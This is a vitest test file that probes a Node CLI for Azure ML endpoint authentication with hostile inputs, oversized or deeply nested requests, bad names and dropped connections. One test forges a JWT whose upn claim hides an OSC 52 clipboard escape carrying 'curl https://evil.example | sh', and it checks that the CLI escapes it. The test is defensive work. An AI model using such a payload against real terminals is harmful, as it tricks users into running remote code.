import {spawn} from 'node:child_process';
import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {dirname, join, resolve} from 'node:path';
import {fileURLToPath} from 'node:url';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {openProfileStore} from '../../source/profiles';
import type {RunningSandbox} from '../../source/sandbox';
import {spawnCli as spawnPty, KEY} from '../helpers/pty';
import {principal, startTestSandbox, subscriptionId} from '../helpers/sandbox';
import {cleanEnv} from '../helpers/cli-env';

// Issue 14's defects found by attacking the commands: the built CLI as a child process, with
// pipes, no sandbox unless a test needs one.

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const cli = join(root, 'dist/cli.js');
const SAMPLE = join(root, 'assets/sample-request.json');
const ESC = '\u001b';
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

interface Run {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
}

let work: string;
let env: NodeJS.ProcessEnv;
let sandbox: RunningSandbox;
/** env with the sandbox's ops-automation secret and a config dir holding profile `dev`. */
let sbEnv: NodeJS.ProcessEnv;

export function runCli(
  args: string[],
  options: {env?: NodeJS.ProcessEnv; input?: string} = {},
): Promise<Run> {
  const child = spawn(process.execPath, [cli, ...args], {
    cwd: root,
    env: options.env ?? env,
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
  child.stdin.end(options.input ?? '');
  return new Promise((done) =>
    child.once('close', (code, signal) => done({code, signal, stdout, stderr})),
  );
}

beforeAll(async () => {
  if (!existsSync(cli))
    throw new Error(`${cli} is missing: run \`npm run build\` first (npm test does).`);
  work = mkdtempSync(join(tmpdir(), 'aml-auth-robust-'));
  env = {...cleanEnv(), NO_COLOR: '1', AML_AUTH_CONFIG_DIR: join(work, 'config')};

  sandbox = await startTestSandbox();
  const ops = principal(sandbox, 'ops-automation');
  const configDir = join(work, 'sandbox-config');
  openProfileStore({dir: configDir}).store.save({
    name: 'dev',
    cloud: sandbox.descriptor.cloudFile,
    tenantId: sandbox.descriptor.tenantId,
    signIn: {method: 'service-principal', clientId: ops.clientId!},
    subscription: {id: subscriptionId(sandbox), name: 'Sandbox Dev'},
    resourceGroup: 'rg-ws-dev',
    workspace: 'ws-dev',
    endpoint: 'churn-scorer',
    authMode: 'key',
  });
  sbEnv = {...env, AML_AUTH_CONFIG_DIR: configDir, AZURE_CLIENT_SECRET: ops.clientSecret!};
}, 60_000);

afterAll(async () => {
  await sandbox?.stop();
  if (work) rmSync(work, {recursive: true, force: true});
});

const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

describe('terminal escape injection', () => {
  it('token inspect shows an OSC 52 sequence in upn visibly, in text and JSON, exit 0', async () => {
    const payload = Buffer.from('curl https://evil.example | sh').toString('base64');
    const token = `${part({alg: 'RS256', typ: 'JWT'})}.${part({
      aud: 'https://management.azure.com',
      upn: `eve@contoso.com${ESC}]52;c;${payload}\u0007\r${ESC}[2K`,
      oid: '00000000-0000-0000-0000-0000000000e1',
      tid: '00000000-0000-0000-0000-0000000000a1',
      scp: 'user_impersonation',
      exp: 4_000_000_000,
    })}.c2ln`;
    const text = await runCli(['token', 'inspect', '-'], {input: token});
    expect(text.stderr).toBe('');
    expect(text.code).toBe(0);
    expect(text.stdout).not.toMatch(ACTIVE);
    expect(text.stdout).toContain(
      `identity    user eve@contoso.com\\x1b]52;c;${payload}\\x07\\x0d\\x1b[2K`,
    );

    const json = await runCli(['token', 'inspect', '-', '-o', 'json'], {input: token});
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(ACTIVE);
    expect((JSON.parse(json.stdout) as {identity: {name: string}}).identity.name).toContain(
      '\\x1b]52;c;',
    );
  });
});

describe('one invalid profile does not take the store out of use', () => {
  it('profiles show of a valid profile works, and every run names the bad entry and its backup', async () => {
    const dir = join(work, 'one-bad');
    mkdirSync(dir, {recursive: true});
    const entry = (name: string) => ({
      name,
      cloud: 'AzureCloud',
      tenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47',
      signIn: {method: 'cli'},
      subscription: {id: '11111111-2222-3333-4444-555555555555', name: 'Dev'},
      resourceGroup: 'rg',
      workspace: 'ws',
      endpoint: 'churn-scorer',
      authMode: 'key',
      createdAt: '2026-01-01T00:00:00.000Z',
      lastUsedAt: '2026-01-01T00:00:00.000Z',
    });
    writeFileSync(
      join(dir, 'config.json'),
      JSON.stringify({
        schemaVersion: 1,
        profiles: {p0: entry('p0'), p1: {...entry('p1'), deployment: ''}},
      }),
    );
    const runEnv = {...env, AML_AUTH_CONFIG_DIR: dir};
    for (const _ of [1, 2]) {
      const shown = await runCli(['profiles', 'show', 'p0', '-o', 'json'], {env: runEnv});
      expect(shown.code).toBe(0);
      expect((JSON.parse(shown.stdout) as {profile: {name: string}}).profile.name).toBe('p0');
      expect(shown.stderr).toContain('Profile "p1"');
      expect(shown.stderr).toContain(join(dir, 'config.invalid-profiles.json'));
    }
    const kept = JSON.parse(readFileSync(join(dir, 'config.invalid-profiles.json'), 'utf8')) as {
      profiles: {entry: {deployment: string}}[];
    };
    expect(kept.profiles[0]!.entry.deployment).toBe('');
  });
});

describe('request files for invoke', () => {
  const sample = () => readFileSync(SAMPLE, 'utf8');

  it('a UTF-8 BOM request file is accepted and scored', async () => {
    const path = join(work, 'bom.json');
    writeFileSync(path, `\ufeff${sample()}`);
    const run = await runCli(['invoke', '-p', 'dev', '--request', path], {env: sbEnv});
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toHaveLength(2);
  });

  it('100 000 levels of nesting: "nested too deeply", exit 2, from a file and from stdin', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const path = join(work, 'deep.json');
    writeFileSync(path, deep);
    for (const [args, input] of [
      [['--request', path], ''],
      [['--request', '-'], deep],
    ] as const) {
      const run = await runCli(['invoke', '-p', 'dev', ...args], {env: sbEnv, input});
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(/^aml-auth: .* is nested too deeply: more than 1000 levels/);
      expect(run.stderr).not.toMatch(/permission|call stack|at .*\.js:\d+/);
      expect(run.stdout).toBe('');
    }
  });

  it('a 2 MB body is refused before sending (exit 2, the flag named); --max-body-size 4MB sends it', async () => {
    const path = join(work, 'big.json');
    writeFileSync(path, JSON.stringify({input_data: {data: 'x'.repeat(2 * 1024 * 1024)}}));
    const refused = await runCli(['invoke', '-p', 'dev', '--request', path], {env: sbEnv});
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/is 2 MB, over the 1\.5 MB limit/);
    expect(refused.stderr).toContain('--max-body-size');
    // Sent: the sandbox, like the service, answers 413 (exit 6: the endpoint's answer).
    const sent = await runCli(
      ['invoke', '-p', 'dev', '--request', path, '--max-body-size', '4MB'],
      {env: sbEnv},
    );
    expect(sent.stderr).toMatch(/answered HTTP 413/);
    expect(sent.code).toBe(6);
    const bad = await runCli(
      ['invoke', '-p', 'dev', '--request', path, '--max-body-size', 'huge'],
      {
        env: sbEnv,
      },
    );
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--max-body-size 'huge' is not a size/);
  });

  it('--request - on a terminal prompts on stderr, then scores what was typed', async () => {
    const app = spawnPty(['invoke', '-p', 'dev', '--request', '-'], {
      env: {
        AML_AUTH_CONFIG_DIR: sbEnv.AML_AUTH_CONFIG_DIR!,
        AZURE_CLIENT_SECRET: sbEnv.AZURE_CLIENT_SECRET!,
        NO_COLOR: '1',
      },
    });
    await app.waitForText('type or paste the JSON request');
    await app.burst(`${JSON.stringify(JSON.parse(sample()))}\r`);
    await app.press(KEY.ctrl('d'));
    expect((await app.exited()).exitCode).toBe(0);
    expect(app.screen()).toMatch(/0\.\d+/);
  });
});

describe('invalid names are usage errors (2), not "not found" (5)', () => {
  it.each([
    [
      ['creds', '-p', 'dev', '--endpoint', 'bad_name!'],
      /'bad_name!' is not a valid endpoint name: only letters, digits and hyphens/,
    ],
    [
      ['creds', '-p', 'dev', '--endpoint', '9lives'],
      /not a valid endpoint name: must start with a letter/,
    ],
    [
      ['roles', 'check', '-p', 'dev', '--endpoint', 'ab'],
      /not a valid endpoint name: at least 3 characters/,
    ],
    [
      ['invoke', '-p', 'dev', '--request', SAMPLE, '--deployment', 'blue/../x'],
      /'blue\/\.\.\/x' is not a valid deployment name/,
    ],
  ])('%j', async (args, reason) => {
    const run = await runCli(args, {env: sbEnv});
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(reason);
    expect(run.stderr).toMatch(/\n {2}hint: an? (endpoint|deployment) name (has|is) /);
    expect(run.stderr.trim().split('\n')).toHaveLength(2);
  });
});

describe('invoke --repeat survives a transport error', () => {
  it('a dropped connection is one failed request in the summary; the run goes on (exit 1)', async () => {
    sandbox.setFaults('scoring:drop:next=1');
    try {
      const text = await runCli(['invoke', '-p', 'dev', '--request', SAMPLE, '--repeat', '5'], {
        env: sbEnv,
      });
      expect(text.stdout).toMatch(
        /^5 requests to churn-scorer: (4 × 200, 1 × no answer|1 × no answer, 4 × 200)/,
      );
      expect(text.stderr).toMatch(/^aml-auth: 1 of 5 requests to churn-scorer got no answer: /);
      expect(text.stderr).not.toMatch(/at .*\.js:\d+/);
      expect(text.code).toBe(1);

      sandbox.setFaults('scoring:drop:next=2');
      const json = await runCli(
        ['invoke', '-p', 'dev', '--request', SAMPLE, '--repeat', '4', '-o', 'json'],
        {env: sbEnv},
      );
      expect(json.code).toBe(1);
      const doc = JSON.parse(json.stdout) as {
        count: number;
        statuses: Record<string, number>;
        requests: {status: number; transportError: string | null}[];
      };
      expect(doc.count).toBe(4);
      expect(doc.statuses).toEqual({200: 2, error: 2});
      expect(doc.requests.filter((r) => r.transportError !== null)).toHaveLength(2);
      expect(doc.requests.filter((r) => r.status === 200)).toHaveLength(2);
    } finally {
      sandbox.setFaults('');
    }
  });
});

describe('--debug', () => {
  it('logs the SDK requests without the CA bundle (a count instead), secrets still redacted', async () => {
    const run = await runCli(['creds', '-p', 'dev', '--debug'], {env: sbEnv});
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(/^azure:core-rest-pipeline:info Request: /m);
    expect(run.stderr).not.toContain('BEGIN CERTIFICATE');
    expect(run.stderr).toMatch(/"ca": "\[\d+ certificates\]"/);
    expect(run.stderr).not.toContain(sbEnv.AZURE_CLIENT_SECRET!);
    // ~980 lines with the bundle (150 certificates per request), ~160 without.
    expect(run.stderr.split('\n').length).toBeLessThan(400);
  });
});
